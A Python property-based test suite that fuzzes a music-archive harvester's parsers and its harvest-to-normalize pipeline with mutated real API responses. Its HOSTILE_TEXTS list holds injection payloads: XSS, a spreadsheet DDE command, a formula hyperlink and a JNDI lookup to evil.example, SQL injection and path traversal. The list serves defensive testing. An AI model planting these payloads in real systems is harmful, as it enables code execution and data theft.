"""Bad input, property-based: every source's parser and the harvest -> normalize path.

Real recorded responses (the bundled sample, tests/data, ../shared/data/real) are mutated by
hypothesis: field values replaced by hostile ones (impossible dates, negative, huge or
non-finite lengths, 1 MB titles, control characters, unpaired surrogates, HTML and spreadsheet
formula payloads), wrong types (lists for text, objects for lists, nesting thousands deep), keys
dropped or added (keys that switch a parser to another branch), lists cut short, and the
serialized bytes truncated or laced with invalid UTF-8 and control bytes.

Properties: a parser returns rows or raises MalformedPayload, never anything else; whatever
it returns is sane (dates real calendar dates or None, durations positive and finite, ids well
formed, titles kept as data); and through harvest and normalize every payload is accounted
for: stored and parsed into sightings, skipped with a reason, or quarantined with a reason.

The examples are derandomized, so a run is reproducible; the `soak` variants run many more.
"""

from __future__ import annotations

import functools
import json
import math
import re
import tempfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field, fields, is_dataclass
from datetime import date
from pathlib import Path
from typing import Any

import duckdb
import pytest
from hypothesis import HealthCheck, given, note, settings
from hypothesis import strategies as st

from preservation import store
from preservation.harvest import harvest_folder
from preservation.normalize import SIGHTING_TABLES, normalize
from preservation.pipeline import sample_dir
from preservation.sources import SOURCES
from preservation.sources.base import MalformedPayload, Parsed, load_json

SAMPLE = sample_dir()
TESTS_DATA = Path(__file__).parent / "data"
SHARED = Path(__file__).resolve().parents[2] / "shared" / "data" / "real"

# Real recorded documents per source: what each parser meets in a harvest.
REAL_DOCUMENTS: dict[str, list[Path]] = {
    "musicbrainz": [
        SAMPLE / "musicbrainz/ws2_json_picard/recording.json",
        SAMPLE / "musicbrainz/ws2_json_picard/recording_composer.json",
        SAMPLE / "musicbrainz/ws2_json_picard/release.json",
        SAMPLE / "musicbrainz/ws2_json_picard/artist_ended.json",
        SAMPLE / "musicbrainz/ws2_json_musicbrainz_rs/lookup/work/"
        "c1b0e8a2-2461-4d48-9a89-f4e6d624d342.json",
        SAMPLE / "musicbrainz/ws2_json_musicbrainz_rs/lookup/release/"
        "59211ea4-ffd2-4ad9-9a4e-941d3148024a.json",
        SAMPLE / "musicbrainz/ws2_json_url_rels/"
        "release_7d0cf748-475e-4be6-b7f2-ef2d55f3f0f5_inc-url-rels.json",
        SAMPLE / "musicbrainz/ws2_json_url_rels/"
        "url-lookup_www-discogs-com_release_12620800_inc-release-rels.json",
        TESTS_DATA / "musicbrainz/search_recording_we_will_rock_you.json",
    ],
    "internetarchive": [
        SAMPLE / "internetarchive/metadata_api/78_i-want-a-hippopotamus-for-christmas_"
        "vicki-dale-the-peter-pan-orchestra_gbia0000281a.json",
        SAMPLE / "internetarchive/metadata_api/mbid-3c556c47-110d-4782-a607-c93e486bccf8.json",
        SAMPLE / "internetarchive/metadata_api/mbid-8dd38d9f-eae6-47a7-baa8-eaa46687.json",
        SAMPLE / "internetarchive/advancedsearch/georgeblood_etree_year1910_coverage.json",
        SAMPLE / "internetarchive/advancedsearch/etree_OfARevolution_allfields.json",
        TESTS_DATA / "internetarchive/scrape_nasa.json",
    ],
    "loc": [
        SAMPLE / "loc/item/jukebox-879940.json",
        SAMPLE / "loc/search/steal-away_first3.json",
    ],
    "commons": [
        TESTS_DATA / "wikimedia_commons/search_audio_offset40.json",
        TESTS_DATA / "wikimedia_commons/image_details_extmetadata.json",
    ],
}
if (SHARED / "wikimedia_commons/imageinfo/Nl-Javaanse_herten_ogg.json").is_file():
    REAL_DOCUMENTS["commons"].append(
        SHARED / "wikimedia_commons/imageinfo/Nl-Javaanse_herten_ogg.json"
    )
if (SHARED / "internetarchive/partial/grooveclean_ASSETS.json").is_file():
    REAL_DOCUMENTS["internetarchive"].append(
        SHARED / "internetarchive/partial/grooveclean_ASSETS.json"
    )

# Where a record's title sits in a real document, and which record it names.
TITLE_FIELDS: dict[str, tuple[Path, list[str | int], str]] = {
    "musicbrainz": (
        REAL_DOCUMENTS["musicbrainz"][0],
        ["title"],
        "musicbrainz:recording:" + json.loads(REAL_DOCUMENTS["musicbrainz"][0].read_text())["id"],
    ),
    "internetarchive": (
        REAL_DOCUMENTS["internetarchive"][0],
        ["metadata", "title"],
        "internetarchive:item:78_i-want-a-hippopotamus-for-christmas_vicki-dale-the-peter-pan-"
        "orchestra_gbia0000281a",
    ),
    "loc": (REAL_DOCUMENTS["loc"][0], ["item", "title"], "loc:item:jukebox-879940"),
}

# Keys whose values the parsers read: mutations aim at them more often than at the rest.
INTERESTING_KEYS = {
    "id", "title", "date", "first-release-date", "length", "duration", "year", "begin", "end",
    "ended", "recording_date", "identifier", "mediatype", "name", "sort-name", "resource",
    "url", "type", "target-type", "recording", "release", "work", "artist", "relations",
    "releases", "recordings", "media", "tracks", "files", "format", "source", "metadata",
    "item", "results", "resources", "query", "pages", "imageinfo", "extmetadata", "mime",
    "collection", "external-identifier", "creator", "contributor_names", "original_format",
    "label-info", "catalog-number", "artist-credit", "isrcs", "life-span", "value", "docs",
}  # fmt: skip
# Keys that, added to a document, send a parser down another branch.
BRANCH_KEYS = [
    "error", "is_dark", "missing", "metadata", "response", "items", "count", "results", "item",
    "query", "recordings", "releases", "works", "resource", "video", "isrcs", "iswcs", "media",
    "sort-name", "life-span", "primary-type", "label-code", "id", "dir", "files",
]  # fmt: skip

# ---------------------------------------------------------------------------------------------
# Hostile values
# ---------------------------------------------------------------------------------------------

BAD_DATES = [
    "0000", "1925-13-45", "?", "", " ", "1925-02-30", "1900-02-29", "2023-04-31", "1925-00-00",
    "1925-1-1", "19250101", "-1925", "+1925", "99999", "0999", "3000-01-01", "1925?",
    "[1925]", "c. 1925", "1925/06/01", "06/01/1925", "١٩٢٥-٠١-٠١", "１９２５", "1925-06-01T25:61",
    "NaN", "null", "1e3", "\t1925-06-01", "1925\x00", "1925-06-\u0661\u0662",
]  # fmt: skip
HOSTILE_TEXTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</td></tr></table><h1>injected</h1>",
    '=HYPERLINK("http://evil.example/","click me")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'; DROP TABLE recordings; --",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "\u202egnp.exe",
    "zero\u200bwidth",
    "\ufeffBOM",
    "A\x00B",
    "\x1b[31mred\x1b[0m",
    "line\nbreak\r\n",
    "   ",
    "",
    "../../../etc/passwd",
    "%s%s%s%n",
    "\U0001f3b5 \u266b",
    '=HYPERLINK("http://x")'.ljust(36),  # as long as an MBID
]
MEGABYTE_TITLE = "Take " * (2**20 // 5)  # a 1 MB title


def control_text() -> st.SearchStrategy[str]:
    return st.text(st.characters(categories=["Cc"]), min_size=1, max_size=12)


def surrogate_text() -> st.SearchStrategy[str]:
    """Text with unpaired surrogates: JSON can escape them ("\\ud800"), no UTF-8 can hold them."""
    halves = st.lists(st.characters(categories=["Cs"]), min_size=1, max_size=3)
    return halves.map(lambda cs: "x" + "x".join(cs) + "y")  # never two in a row: no pair


def hostile_text(surrogates: bool = True) -> st.SearchStrategy[str]:
    options = [
        st.sampled_from(HOSTILE_TEXTS),
        control_text(),
        st.text(st.characters(exclude_categories=["Cs"]), max_size=40),
        st.just(MEGABYTE_TITLE),
        st.tuples(st.sampled_from(HOSTILE_TEXTS), control_text()).map("".join),
    ]
    if surrogates:
        options.append(surrogate_text())
    return st.one_of(*options)


def hostile_dates() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(BAD_DATES),
        st.from_regex(r"\A-?[0-9?]{1,5}(-[0-9]{1,3}){0,2}\Z"),
        st.builds(
            lambda y, m, d: f"{y:04d}-{m:02d}-{d:02d}",
            st.integers(0, 9999),
            st.integers(0, 99),
            st.integers(0, 99),
        ),
    )


def hostile_numbers() -> st.SearchStrategy[Any]:
    return st.one_of(
        st.sampled_from([0, -1, -281000, 10**30, 10**400, -(10**400), 1e308, -0.0]),
        st.sampled_from([math.nan, math.inf, -math.inf]),
        st.integers(),
        st.floats(allow_nan=True, allow_infinity=True),
        st.booleans(),
        st.sampled_from(["167.25", "02:47", "-5", "inf", "nan", "1e999", "9" * 400 + ":00"]),
    )


HOSTILE_TEXT = hostile_text()
HOSTILE_DATES = hostile_dates()
DEEP = "@@deeply nested@@"  # replaced by thousands of nested brackets once serialized


def hostile_values() -> st.SearchStrategy[Any]:
    leaves = st.one_of(
        HOSTILE_TEXT,
        HOSTILE_DATES,
        hostile_numbers(),
        st.none(),
        st.just(DEEP),
    )
    return st.recursive(
        leaves,
        lambda inner: st.one_of(
            st.lists(inner, max_size=3),
            st.dictionaries(st.sampled_from([*BRANCH_KEYS, "#text", "x"]), inner, max_size=3),
        ),
        max_leaves=6,
    )


HOSTILE_VALUES = hostile_values()
DATES_OR_VALUES = st.one_of(HOSTILE_DATES, HOSTILE_VALUES)
HOSTILE_NUMBERS = hostile_numbers()
NUMBERS_OR_VALUES = st.one_of(HOSTILE_NUMBERS, HOSTILE_VALUES)
TITLES = hostile_text(surrogates=False)


# ---------------------------------------------------------------------------------------------
# Mutating real documents
# ---------------------------------------------------------------------------------------------

Path_ = tuple[str | int, ...]


def all_paths(node: Any, prefix: Path_ = ()) -> list[Path_]:
    """Every place in a JSON document (the root is ())."""
    found = [prefix]
    if isinstance(node, dict):
        for key, value in node.items():
            found += all_paths(value, (*prefix, key))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            found += all_paths(value, (*prefix, index))
    return found


def get(node: Any, path: Path_) -> Any:
    for step in path:
        node = node[step]
    return node


@dataclass
class Mutated:
    """A mutated real document: its bytes and what was done to it (shown on failure)."""

    source: str
    origin: str
    body: bytes = field(repr=False)
    steps: list[str] = field(default_factory=list)


DATE_KEYS = {"date", "first-release-date", "begin", "end", "recording_date", "year"}


@dataclass(frozen=True)
class Places:
    """A real document's text and where its values are: all of them, those the parsers read
    (by key), its dates and its lengths."""

    text: str
    all: list[Path_]
    interesting: list[Path_]
    dates: list[Path_]
    lengths: list[Path_]


@functools.cache
def places(origin: Path) -> Places:
    text = origin.read_text(encoding="utf-8")
    paths = all_paths(json.loads(text))
    return Places(
        text,
        paths,
        [p for p in paths if p and p[-1] in INTERESTING_KEYS],
        [p for p in paths if p and (p[-1] in DATE_KEYS or p[-2:] == ("DateTimeOriginal", "value"))],
        [p for p in paths if p and p[-1] in {"length", "duration"}],
    )


def mutate_document(draw: st.DrawFn, origin: Path, steps: list[str], doc: Any = None) -> Any:
    """Apply one to four structural mutations to a real document (decoded afresh, unless
    given already decoded).

    Places are picked among the original document's (an earlier mutation may have removed
    one: then that step does nothing).
    """
    at = places(origin)
    doc = json.loads(at.text) if doc is None else doc
    for _ in range(draw(st.integers(1, 4))):
        aim = draw(st.integers(0, 9))
        if at.dates and aim < 2:
            path = draw(st.sampled_from(at.dates))
        elif at.lengths and aim < 3:
            path = draw(st.sampled_from(at.lengths))
        elif at.interesting and aim < 8:
            path = draw(st.sampled_from(at.interesting))
        else:
            path = draw(st.sampled_from(at.all))
        op = draw(st.sampled_from(["replace", "replace", "replace", "delete", "add", "cut"]))
        if not path:  # the root
            if op == "replace" and draw(st.integers(0, 9)) == 0:
                doc = draw(HOSTILE_VALUES)
                steps.append(f"root := {doc!r:.80}")
            continue
        try:
            parent = get(doc, path[:-1])
            last = path[-1]
            target = parent[last]
        except (KeyError, IndexError, TypeError):  # gone with an earlier mutation
            continue
        if op == "replace":
            if path in at.dates:
                value = draw(DATES_OR_VALUES)
            elif path in at.lengths:
                value = draw(NUMBERS_OR_VALUES)
            else:
                value = draw(HOSTILE_VALUES)
            parent[last] = value
            steps.append(f"{list(path)} := {value!r:.80}")
        elif op == "delete":
            del parent[last]
            steps.append(f"del {list(path)}")
        elif op == "add" and isinstance(target, dict):
            key = draw(st.sampled_from(BRANCH_KEYS))
            target[key] = draw(HOSTILE_VALUES)
            steps.append(f"{list(path)}[{key!r}] := {target[key]!r:.80}")
        elif op == "cut" and isinstance(target, list):
            keep = draw(st.integers(0, len(target)))
            del target[keep:]
            steps.append(f"{list(path)} cut to {keep}")
    return doc


INVALID_UTF8 = [
    b"\xff",
    b"\xfe\xff",
    b"\xc3\x28",
    b"\xed\xa0\x80",
    b"\xf4\x90\x80\x80",
    b"\xc0\xaf",
]
RAW_CONTROL = [b"\x00", b"\x1b[31m", b"\x07", b"\x7f", b"\r"]


def serialize(draw: st.DrawFn, doc: Any, steps: list[str], byte_level: bool) -> bytes:
    ascii_only = draw(st.booleans())
    text = json.dumps(doc, ensure_ascii=ascii_only, indent=draw(st.sampled_from([None, 1])))
    if DEEP in text:
        depth = draw(st.sampled_from([40, 5_000, 100_000]))
        text = text.replace(json.dumps(DEEP), "[" * depth + "]" * depth)
        steps.append(f"nested {depth} deep")
    body = text.encode("utf-8", "surrogatepass")  # an unpaired surrogate becomes invalid UTF-8
    if byte_level:
        body = damage_bytes(draw, body, draw(st.integers(0, 2)), steps)
    return body


def damage_bytes(draw: st.DrawFn, body: bytes, times: int, steps: list[str]) -> bytes:
    """`body` cut short, or with invalid UTF-8, raw control bytes or a BOM put in, `times`
    times over."""
    for _ in range(times):
        at = draw(st.integers(0, len(body)))
        op = draw(st.sampled_from(["truncate", "invalid utf-8", "control", "bom"]))
        if op == "truncate":
            body = body[:at]
        elif op == "invalid utf-8":
            body = body[:at] + draw(st.sampled_from(INVALID_UTF8)) + body[at:]
        elif op == "control":
            body = body[:at] + draw(st.sampled_from(RAW_CONTROL)) + body[at:]
        else:
            body = b"\xef\xbb\xbf" + body
        steps.append(f"bytes: {op} at {at}")
    return body


@st.composite
def mutated_documents(draw: st.DrawFn, source: str, byte_level: bool = False) -> Mutated:
    path = draw(st.sampled_from(REAL_DOCUMENTS[source]))
    steps: list[str] = []
    doc = mutate_document(draw, path, steps)
    return Mutated(source, path.name, serialize(draw, doc, steps, byte_level), steps)


@st.composite
def titled_documents(draw: st.DrawFn, source: str) -> tuple[Mutated, str, str]:
    """A real document whose record's title is hostile text: (document, title, record id)."""
    path, where, record_id = TITLE_FIELDS[source]
    doc = json.loads(places(path).text)
    title = draw(TITLES)
    get(doc, tuple(where[:-1]))[where[-1]] = title
    body = json.dumps(doc, ensure_ascii=draw(st.booleans())).encode()
    return Mutated(source, path.name, body, [f"{where} := {title!r:.80}"]), title, record_id


# ---------------------------------------------------------------------------------------------
# What sane output is
# ---------------------------------------------------------------------------------------------

ISO_DATE = re.compile(r"([0-9]{4})(?:-([0-9]{2})(?:-([0-9]{2}))?)?")
MBID = re.compile(r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}", re.I)


def assert_valid_date(value: object) -> None:
    """None, or '1953', '1953-10', '1953-10-11' naming a real day (no 1925-13-45, no 31 June)."""
    if value is None:
        return
    assert isinstance(value, str), value
    m = ISO_DATE.fullmatch(value)
    assert m, f"not a partial ISO date: {value!r}"
    year, month, day = (int(g) if g else None for g in m.groups())
    assert year is not None and 1000 <= year <= 2999, value
    date(year, month or 1, day or 1)  # raises ValueError for a day that does not exist


def assert_duration(value: object) -> None:
    if value is not None:
        assert isinstance(value, float) and math.isfinite(value) and value > 0, value


def assert_text(value: object) -> None:
    """A text field: None, or non-empty text with nothing to strip (text() in sources/base)."""
    if value is not None:
        assert isinstance(value, str) and value and value == value.strip(), repr(value)[:80]


def assert_storable(value: object) -> None:
    """Every text a parser returns can be written as UTF-8 (DuckDB, Arrow, CSV, HTML)."""
    if isinstance(value, str):
        value.encode("utf-8")
    elif isinstance(value, list):
        for item in value:
            assert_storable(item)
    elif is_dataclass(value):
        for f in fields(value):
            assert_storable(getattr(value, f.name))


def assert_sane(source: str, parsed: Parsed) -> None:
    """What a parser returns is usable as is, whatever it was fed."""
    assert_storable(parsed)
    assert parsed.records or parsed.holdings or parsed.works or parsed.artists or parsed.skipped
    if parsed.skipped is not None:
        assert isinstance(parsed.skipped, str) and parsed.skipped.strip()
    record_ids = set()
    for r in parsed.records:
        assert r.source == source and r.kind in {"recording", "release", "item"}
        assert isinstance(r.source_id, str) and r.source_id.strip(), r.source_id
        if source == "musicbrainz":
            assert MBID.fullmatch(r.source_id), r.source_id
            assert all(MBID.fullmatch(x) for x in r.release_ids), r.release_ids
        assert_valid_date(r.date)
        assert (r.date is None) == (r.date_kind is None) == (r.date_source is None)
        assert r.date_kind in {None, "published", "recorded"}
        assert_duration(r.duration_s)
        for value in (r.title, r.label, r.catalog_number, r.matrix, r.take, r.country):
            assert_text(value)
        for values in (r.artists, r.isrcs, r.external_ids, r.work_ids):
            assert isinstance(values, list)
            for value in values:
                assert_text(value)
        record_ids.add(r.record_id)
    for h in parsed.holdings:
        assert h.record_id in record_ids, h.record_id
        assert_text(h.url)
        assert h.url and isinstance(h.live, bool)
        assert h.copy_format in {None, "lossless", "lossy"}
    for w in parsed.works:
        assert source == "musicbrainz" and MBID.fullmatch(w.source_id), w.source_id
        for writer in w.writers:
            assert MBID.fullmatch(writer.artist_id.removeprefix("musicbrainz:artist:"))
    for a in parsed.artists:
        assert MBID.fullmatch(a.source_id), a.source_id
        assert_valid_date(a.begin_date)
        assert_valid_date(a.end_date)
        assert a.ended in {None, True, False}


def parse_or_refuse(source: str, body: bytes) -> Parsed | None:
    """Parse a payload as normalize does (decode, then the source's parser); None when the
    payload is refused, which must be as MalformedPayload (or not JSON text), with a reason."""
    try:
        decoded = load_json(body)
    except ValueError as exc:  # not UTF-8, not JSON, unpaired surrogate, nested too deep
        assert str(exc).strip()
        return None
    try:
        parsed = SOURCES[source].parse(decoded, "key")
    except MalformedPayload as exc:
        assert str(exc).strip()
        return None
    assert_sane(source, parsed)
    return parsed


def reproducible(examples: int) -> Callable[[Any], Any]:
    """Hypothesis settings: this many examples, the same ones at every run (derandomized, no
    example database), no deadline (a database example takes a fraction of a second)."""
    return settings(
        max_examples=examples,
        derandomize=True,
        database=None,
        deadline=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )


# ---------------------------------------------------------------------------------------------
# The parsers, alone (fast: most of the generated cases)
# ---------------------------------------------------------------------------------------------

PARSER_EXAMPLES = 200  # x 4 sources


def check_parser(source: str, case: Mutated) -> None:
    note(f"{case.origin}: {'; '.join(case.steps)}")
    parse_or_refuse(source, case.body)


@pytest.mark.parametrize("source", sorted(REAL_DOCUMENTS))
@reproducible(PARSER_EXAMPLES)
@given(data=st.data())
def test_parsers_refuse_or_sanely_parse_mutated_real_documents(source, data):
    check_parser(source, data.draw(mutated_documents(source)))


@pytest.mark.parametrize("source", sorted(TITLE_FIELDS))
@reproducible(60)
@given(data=st.data())
def test_hostile_titles_stay_data(source, data):
    """HTML, formulas, control characters and 1 MB titles are kept as the source gave them
    (stripped of surrounding whitespace): not executed, not escaped, not lost."""
    doc, title, record_id = data.draw(titled_documents(source))
    parsed = parse_or_refuse(source, doc.body)
    assert parsed is not None
    (record,) = [r for r in parsed.records if r.record_id == record_id]
    assert record.title == (title.strip() or None)


@st.composite
def redated_documents(draw: st.DrawFn, source: str) -> Mutated:
    """A real document with one to three of its dates replaced by hostile ones."""
    origin = draw(st.sampled_from([p for p in REAL_DOCUMENTS[source] if places(p).dates]))
    doc, steps = json.loads(places(origin).text), []
    for path in draw(st.lists(st.sampled_from(places(origin).dates), min_size=1, max_size=3)):
        value = draw(st.one_of(st.sampled_from(BAD_DATES), HOSTILE_DATES))
        get(doc, path[:-1])[path[-1]] = value
        steps.append(f"{list(path)} := {value!r}")
    return Mutated(source, origin.name, json.dumps(doc).encode(), steps)


@pytest.mark.parametrize("source", sorted(REAL_DOCUMENTS))
@reproducible(100)
@given(data=st.data())
def test_hostile_dates_are_dropped_or_cut_to_a_real_date(source, data):
    check_parser(source, data.draw(redated_documents(source)))


@pytest.mark.parametrize("bad_date", BAD_DATES)
@pytest.mark.parametrize("source", sorted(REAL_DOCUMENTS))
def test_each_listed_bad_date_everywhere_at_once(source, bad_date):
    for origin in (p for p in REAL_DOCUMENTS[source] if places(p).dates):
        doc = json.loads(places(origin).text)
        for path in places(origin).dates:
            get(doc, path[:-1])[path[-1]] = bad_date
        parse_or_refuse(source, json.dumps(doc).encode())


@st.composite
def relengthed_documents(draw: st.DrawFn, source: str) -> Mutated:
    """A real document with one to three of its lengths or durations replaced by hostile
    values: negative, zero, huge, NaN, infinite, booleans, strings."""
    origin = draw(st.sampled_from([p for p in REAL_DOCUMENTS[source] if places(p).lengths]))
    doc, steps = json.loads(places(origin).text), []
    for path in draw(st.lists(st.sampled_from(places(origin).lengths), min_size=1, max_size=3)):
        value = draw(HOSTILE_NUMBERS)
        get(doc, path[:-1])[path[-1]] = value
        steps.append(f"{list(path)} := {value!r:.60}")
    return Mutated(source, origin.name, json.dumps(doc).encode(), steps)


@pytest.mark.parametrize(
    "source",
    sorted(s for s, docs in REAL_DOCUMENTS.items() if any(places(p).lengths for p in docs)),
)
@reproducible(100)
@given(data=st.data())
def test_hostile_lengths_give_a_positive_finite_duration_or_none(source, data):
    check_parser(source, data.draw(relengthed_documents(source)))


def mbid_lookalikes() -> st.SearchStrategy[str]:
    """36 characters that are not a UUID: what a length check alone would take for an MBID."""
    return st.one_of(
        st.text(min_size=36, max_size=36).filter(lambda t: not MBID.fullmatch(t)),
        st.sampled_from(HOSTILE_TEXTS).map(lambda t: t[:36].ljust(36, "-")),
        st.uuids()
        .map(str)
        .flatmap(lambda u: st.integers(0, 35).map(lambda i: u[:i] + "\x00<>'"[i % 4] + u[i + 1 :])),
    )


MB_ID_PATHS = {
    origin: [p for p in places(origin).all if p and p[-1] == "id"]
    for origin in REAL_DOCUMENTS["musicbrainz"]
}


@reproducible(100)
@given(data=st.data())
def test_musicbrainz_ids_are_mbids_or_the_entity_is_refused(data):
    origin = data.draw(st.sampled_from([p for p, ids in MB_ID_PATHS.items() if ids]))
    doc, steps = json.loads(places(origin).text), []
    for path in data.draw(st.lists(st.sampled_from(MB_ID_PATHS[origin]), min_size=1, max_size=3)):
        value = data.draw(mbid_lookalikes())
        get(doc, path[:-1])[path[-1]] = value
        steps.append(f"{list(path)} := {value!r}")
    check_parser(
        "musicbrainz", Mutated("musicbrainz", origin.name, json.dumps(doc).encode(), steps)
    )


@pytest.mark.parametrize("source", sorted(REAL_DOCUMENTS))
@reproducible(30)
@given(data=st.data())
def test_unpaired_surrogates_are_refused_with_a_reason(source, data):
    """JSON may escape half a surrogate pair ("\\ud800"); no text holds one, so no table can:
    the payload is refused as a whole (quarantined), never half stored."""
    origin = data.draw(st.sampled_from(REAL_DOCUMENTS[source]))
    doc = json.loads(places(origin).text)
    paths = places(origin).interesting or places(origin).all[1:]
    if paths:
        path = data.draw(st.sampled_from(paths))
        get(doc, path[:-1])[path[-1]] = data.draw(surrogate_text())
    else:  # {}: the document is nothing but the bad text
        doc = data.draw(surrogate_text())
    body = json.dumps(doc).encode()  # ASCII: the surrogate is escaped, the bytes are UTF-8
    with pytest.raises(ValueError, match="surrogate"):
        load_json(body)
    assert parse_or_refuse(source, body) is None


@pytest.mark.parametrize("depth", [5_000, 200_000])
@pytest.mark.parametrize("source", sorted(REAL_DOCUMENTS))
def test_nesting_too_deep_is_refused_with_a_reason(source, depth):
    origin = REAL_DOCUMENTS[source][0]
    doc = json.loads(places(origin).text)
    path = (places(origin).interesting or [()])[0]
    if path:
        get(doc, path[:-1])[path[-1]] = DEEP
    else:
        doc = DEEP
    body = json.dumps(doc).replace(json.dumps(DEEP), "[" * depth + "]" * depth).encode()
    with pytest.raises(ValueError, match="nested too deeply"):
        load_json(body)
    assert parse_or_refuse(source, body) is None


@pytest.mark.soak
@pytest.mark.parametrize("source", sorted(REAL_DOCUMENTS))
@reproducible(PARSER_EXAMPLES * 20)
@given(data=st.data())
def test_soak_parsers_on_many_more_mutations(source, data):
    check_parser(source, data.draw(mutated_documents(source, byte_level=True)))


# ---------------------------------------------------------------------------------------------
# Harvest (folder transport) -> normalize, in a database
# ---------------------------------------------------------------------------------------------


@st.composite
def payload_batches(draw: st.DrawFn) -> list[Mutated]:
    sources = st.sampled_from(sorted(REAL_DOCUMENTS))
    cases = draw(st.lists(sources.flatmap(lambda s: mutated_documents(s, True)), max_size=5))
    source = draw(st.sampled_from(sorted(TITLE_FIELDS)))
    return [draw(titled_documents(source))[0], *cases]


def write_folder(root: Path, batch: list[Mutated]) -> dict[tuple[str, str], bytes]:
    """Lay the payloads out as saved responses, one file each, or lines of a .jsonl when they
    fit on one line; return the payloads by (source, key) as harvesting will key them."""
    expected: dict[tuple[str, str], bytes] = {}
    lines: dict[str, list[bytes]] = {}
    for n, case in enumerate(batch):
        folder = root / case.source
        folder.mkdir(exist_ok=True)
        if n == 0:  # the titled document, first in key order
            name = "0-title.json"
        elif n % 2 and b"\n" not in case.body and case.body.strip():
            lines.setdefault(case.source, []).append(case.body)
            expected[case.source, f"batch.jsonl#{len(lines[case.source])}"] = case.body
            continue
        else:
            name = f"case-{n}.json"
        (folder / name).write_bytes(case.body)
        expected[case.source, name] = case.body
    for source, bodies in lines.items():
        (root / source / "batch.jsonl").write_bytes(b"\n".join(bodies) + b"\n")
    return expected


def keys(con: duckdb.DuckDBPyConnection, sql: str) -> dict[tuple[str, str], str]:
    return {(s, k): v for s, k, v in con.execute(sql).fetchall()}


def assert_merged_tables_sane(con: duckdb.DuckDBPyConnection) -> None:
    """The merged tables hold real dates, sane years and durations, whatever came in."""
    for date_value, year, duration in con.execute(
        "SELECT date, year, duration_s FROM recordings"
    ).fetchall():
        assert_valid_date(date_value)
        assert year == (int(date_value[:4]) if date_value else None)
        assert_duration(duration)
    for begin, end in con.execute("SELECT begin_date, end_date FROM artists").fetchall():
        assert_valid_date(begin)
        assert_valid_date(end)


@pytest.fixture(scope="module")
def database() -> Iterator[duckdb.DuckDBPyConnection]:
    """One database for all the examples (emptied before each: opening one costs more than
    an example)."""
    con = store.connect(":memory:")
    yield con
    con.close()


def empty(con: duckdb.DuckDBPyConnection) -> None:
    """Forget every harvested and derived row (the classification tables stay)."""
    for table in store.table_counts(con):
        if table not in {"schema_info", "platforms", "relationship_types"}:
            con.execute(f'DELETE FROM "{table}"')


def check_harvest_and_normalize(con: duckdb.DuckDBPyConnection, batch: list[Mutated]) -> None:
    for case in batch:
        note(f"{case.source} {case.origin}: {'; '.join(case.steps)}")
    empty(con)
    with tempfile.TemporaryDirectory(prefix="bad-input-") as tmp:
        expected = write_folder(Path(tmp), batch)
        for source in sorted({case.source for case in batch}):
            harvest_folder(con, source, Path(tmp) / source, Path(tmp))
        result = normalize(con)
        # Harvest: every payload is stored as received, or quarantined with why.
        stored = keys(con, "SELECT DISTINCT source, key, payload FROM raw_records")
        refused = keys(con, "SELECT source, key, reason FROM quarantine WHERE stage = 'harvest'")
        assert set(stored) | set(refused) == set(expected)
        assert not set(stored) & set(refused)
        for key, reason in refused.items():
            assert reason.strip()
            with pytest.raises(ValueError):
                load_json(expected[key])
        for key, payload in stored.items():
            assert payload.encode("utf-8") == expected[key]  # byte-identical
        # Normalize: every stored payload gives sightings, is skipped with a reason, or is
        # quarantined with a reason; the parser run alone agrees on which.
        unusable = keys(con, "SELECT source, key, reason FROM quarantine WHERE stage = 'normalize'")
        sighted = {
            (source, key)
            for table in SIGHTING_TABLES
            for source, key in con.execute(
                f"SELECT DISTINCT split_part(record_id, ':', 1), raw_key FROM {table}"
                if table in {"source_records", "source_holdings"}
                else f"SELECT DISTINCT source, raw_key FROM {table}"
            ).fetchall()
        }
        assert result.payloads == len(stored)
        assert all(reason.strip() for reason in unusable.values())
        assert not sighted & set(unusable)
        assert len(unusable) + len(sighted) + sum(result.skipped.values()) == len(stored)
        for (source, key), payload in stored.items():
            parsed = parse_or_refuse(source, payload.encode("utf-8"))
            assert (parsed is None) == ((source, key) in unusable), key
        assert_merged_tables_sane(con)
        # The hostile title (first in key order) is in recordings as the source gave it.
        titled = batch[0]
        _, _, record_id = TITLE_FIELDS[titled.source]
        title = json.loads(titled.body)
        for step in TITLE_FIELDS[titled.source][1]:
            title = title[step]
        if title.strip():
            assert con.execute(
                "SELECT title FROM recordings WHERE record_id = ?", [record_id]
            ).fetchall() == [(title.strip(),)]


@reproducible(40)
@given(batch=payload_batches())
def test_harvest_and_normalize_account_for_every_payload(database, batch):
    check_harvest_and_normalize(database, batch)


@pytest.mark.soak
@reproducible(1_500)
@given(batch=payload_batches())
def test_soak_harvest_and_normalize(database, batch):
    check_harvest_and_normalize(database, batch)


# ---------------------------------------------------------------------------------------------
# The CLI: harvest and normalize a folder of hostile responses
# ---------------------------------------------------------------------------------------------


def hostile_folder(root: Path) -> list[str]:
    """A loc folder of the real item response made hostile in each way once: its file names."""
    text = places(REAL_DOCUMENTS["loc"][0]).text
    item = json.loads(text)

    def variant(item_id: str, **fields: str) -> str:
        changed = {**item["item"], **fields, "url": f"https://www.loc.gov/item/{item_id}/"}
        return json.dumps({**item, "item": changed})

    cases = {
        "original.json": text.encode(),  # good input among the bad still imports
        "deep.json": ("[" * 200_000 + "]" * 200_000).encode(),
        "latin1.json": text.replace("Nobody", "Nob\u00f6dy").encode("latin-1", "replace"),
        "surrogate.json": variant("jukebox-1", title="a\ud800b"),
        "truncated.json": text.encode()[: len(text) // 3],
        "empty.json": b"",
        "bom.json": b"\xef\xbb\xbf" + text.encode(),
        "list.json": b"[1, 2, 3]",
        "formula.json": variant("jukebox-2", title=' =HYPERLINK("http://evil.example") '),
        "bad-date.json": variant("jukebox-3", recording_date="1925-13-45"),
        "control.json": variant("jukebox-4", title="\x1b[31mred\x00\x07"),
    }
    (root / "loc").mkdir()
    for name, body in cases.items():
        (root / "loc" / name).write_bytes(body if isinstance(body, bytes) else body.encode())
    return sorted(cases)


def test_cli_harvest_and_normalize_of_hostile_files_quarantine_with_reasons(tmp_path):
    from typer.testing import CliRunner

